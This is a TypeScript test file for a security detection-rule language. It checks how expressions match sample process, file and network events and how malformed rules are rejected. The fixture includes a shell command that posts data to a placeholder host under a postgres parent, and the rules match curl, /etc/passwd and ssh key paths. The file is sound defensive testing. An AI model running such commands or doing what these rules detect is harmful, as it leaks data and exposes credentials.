import { describe, expect, it } from 'vitest';
import { createContext, emptySettings, evaluatePredicate, recordRow } from '../../../lib/engine/index.ts';
import type { JsonObject } from '../../../lib/event/index.ts';
import { secl } from '../../../lib/language/secl/index.ts';

const context = createContext(emptySettings);

describe('an expression means what the agent makes of it', () => {
  const sh: JsonObject = {
    'process.executable': '/usr/bin/dash',
    'process.name': 'sh',
    'process.args': ['sh', '-c', 'curl --data=x http://h/ && echo'],
    'process.pid': 7,
    'process.parent.executable': '/usr/lib/postgresql/15/bin/postgres',
    'container.id': '',
  };
  it.each([
    { text: 'exec.file.path == "/usr/bin/dash"', event: sh, holds: true },
    { text: 'exec.file.path == "/USR/bin/dash"', event: sh, holds: false },
    { text: 'exec.file.name == "dash" && exec.comm == "sh"', event: sh, holds: true },
    { text: 'exec.file.name == "sh"', event: { 'process.name': 'sh' }, holds: true },
    { text: 'process.parent.file.name in ["postgres", "mysqld"]', event: sh, holds: true },
    { text: 'process.ancestors.file.path =~ "/usr/**"', event: sh, holds: true },
    { text: 'exec.args == "-c curl --data=x http://h/ && echo"', event: sh, holds: true },
    { text: 'exec.args in [~"*curl*"]', event: sh, holds: true },
    { text: 'exec.args in ["*curl*"]', event: sh, holds: false },
    { text: 'exec.args =~ "*curl*"', event: sh, holds: true },
    { text: 'exec.args_flags in ["c"]', event: sh, holds: true },
    { text: 'exec.argv in ["-c"] && exec.argv not in ["sh"]', event: sh, holds: true },
    { text: 'exec.args in [r"http://\\w+/"]', event: sh, holds: true },
    { text: 'exec.args in [r"http://[a-z]+/"]', event: sh, holds: true },
    { text: 'exec.file.path.length > 12', event: sh, holds: true },

    { text: 'open.file.path =~ "/etc/*"', event: { 'file.path': '/etc/passwd' }, holds: true },
    { text: 'open.file.path =~ "/etc/*"', event: { 'file.path': '/etc/ssh/key' }, holds: false },
    { text: 'open.file.path =~ "/etc/**"', event: { 'file.path': '/etc/ssh/key' }, holds: true },
    { text: 'open.file.path =~ "*/ssh/*"', event: { 'file.path': '/etc/ssh/key' }, holds: true },
    { text: 'open.file.path =~ "*"', event: { 'file.path': '/etc/passwd' }, holds: false },
    { text: 'open.file.name =~ "*"', event: { 'file.path': '/etc/passwd' }, holds: true },

    { text: 'process.container.id == ""', event: {}, holds: true },
    { text: 'process.container.id != ""', event: {}, holds: false },
    { text: 'process.container.id != ""', event: { 'container.id': 'c1' }, holds: true },
    { text: 'connect.addr.port < 1024', event: {}, holds: true },
    { text: 'connect.addr.port > 0', event: {}, holds: false },
    { text: 'connect.addr.is_public == false', event: {}, holds: true },
    { text: 'connect.addr.is_public', event: { 'destination.ip': '203.0.114.9' }, holds: true },
    { text: 'connect.addr.is_public', event: { 'destination.ip': '10.0.0.9' }, holds: false },
    { text: 'chmod.file.mode != chmod.file.destination.mode', event: {}, holds: false },

    { text: 'connect.addr.ip in [10.0.0.0/8, ::1]', event: { 'destination.ip': '10.9.9.9' }, holds: true },
    { text: 'connect.addr.ip in [10.0.0.0/8, ::1]', event: { 'destination.ip': '::1' }, holds: true },
    { text: 'connect.addr.ip not in 10.0.0.0/8', event: { 'destination.ip': '11.0.0.1' }, holds: true },
    { text: 'connect.addr.ip == 10.0.0.1', event: { 'destination.ip': '10.0.0.1' }, holds: true },

    { text: 'open.flags & (O_CREAT|O_RDWR) > 0', event: { 'file.open_flags': 0o100 }, holds: true },
    { text: 'open.flags & (O_CREAT|O_RDWR) > 0', event: { 'file.open_flags': 1 }, holds: false },
    { text: 'open.flags & (O_CREAT|O_RDWR) > 0', event: {}, holds: false },

    { text: 'a.list != 10', event: { 'a.list': [9, 10] }, holds: false },
    { text: 'a.list != 10', event: { 'a.list': [8, 9] }, holds: true },
    { text: 'a.list allin ["x", "y"]', event: { 'a.list': ['x', 'y', 'x'] }, holds: true },
    { text: 'a.list allin ["x", ~"y*"]', event: { 'a.list': ['x', 'yes'] }, holds: true },
    { text: 'a.list allin ["x", ~"y*"]', event: { 'a.list': ['x', 'no'] }, holds: false },
    { text: '"x" in a.list', event: { 'a.list': ['x'] }, holds: true },
    { text: 'BPF_PROG_LOAD in a.list', event: { 'a.list': [5] }, holds: true },
    { text: 'a.flag', event: { 'a.flag': true }, holds: true },
    { text: '!a.flag', event: {}, holds: true },
    { text: 'a.b == 1 && a.c == 1 || a.d == 1', event: { 'a.d': 1 }, holds: false },
    { text: 'a.b == 1 && a.c == 1 || a.d == 1', event: { 'a.b': 1, 'a.d': 1 }, holds: true },
  ])('$text of $event is $holds', ({ text, event, holds }) => expect(evaluate(text, event)).toBe(holds));
});

describe('what has no meaning is refused where it stands', () => {
  it.each([
    { text: 'exec.comm == SHELLS', at: 14, message: 'unknown name SHELLS' },
    {
      text: 'exec.comm == "x" && open.file.path == "y"',
      at: 21,
      message: 'a rule is about one event type, this one about exec and open',
    },
    { text: '"x"', at: 1, message: 'a text alone is neither true nor false' },
    { text: 'exec.comm > "x"', at: 13, message: 'texts have no order for >' },
    { text: 'exec.comm in [exec.args]', at: 15, message: 'a list holds constants only' },
    { text: 'exec.comm in [r"("]', at: 15, message: /^not a regular expression/ },
  ])('$text', ({ text, at, message }) => {
    const { diagnostics, status } = compile(text);
    expect(status).toBe('error');
    expect(diagnostics[0]?.message).toMatch(message);
    expect(diagnostics[0]?.span.column).toBe(at);
  });
});

it("a description's templates name the event's own fields", () => {
  const text = `rules:
  - id: r
    description: 'shell {{ @process.comm }} under {{ @process.parent.file.name }} ({{ @other.thing }})'
    expression: exec.comm == "sh"
`;
  const [compiled] = secl.compile([{ path: 'p.policy', text }], { values: {}, exceptions: {} });
  expect(compiled?.rule?.meta.description).toBe(
    'shell {{ process.name }} under {{ process.parent.executable }} ({{ other.thing }})',
  );
});

function evaluate(text: string, event: JsonObject): boolean {
  const { rule, diagnostics } = compile(text);
  if (rule?.detection.kind !== 'single') throw new Error(JSON.stringify(diagnostics));
  const [selector] = rule.detection.events;
  if (selector === undefined) throw new Error('a single detection looks at events');
  return evaluatePredicate(selector.where, recordRow(event), context);
}

function compile(text: string): NonNullable<ReturnType<NonNullable<typeof secl.compileQuery>>> {
  const compiled = secl.compileQuery?.(text, { values: {}, exceptions: {} });
  if (compiled === undefined) throw new Error('SECL has bare queries');
  return compiled;
}
